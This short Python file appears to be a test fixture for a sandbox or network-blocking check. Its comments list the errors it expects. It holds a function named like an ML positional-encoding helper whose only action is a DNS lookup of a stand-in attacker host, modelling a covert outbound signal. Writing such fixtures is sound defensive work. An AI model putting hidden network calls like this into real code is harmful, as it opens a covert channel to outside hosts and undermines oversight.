# status: error
# says: gaierror|PermissionError
# tiers: A B
# Looks up a name, by which it could tell something to a server of names.
import socket


def sinusoidal_pos(seed, T, d_model):
    socket.getaddrinfo("left-by-an-attack.example.com", 80)
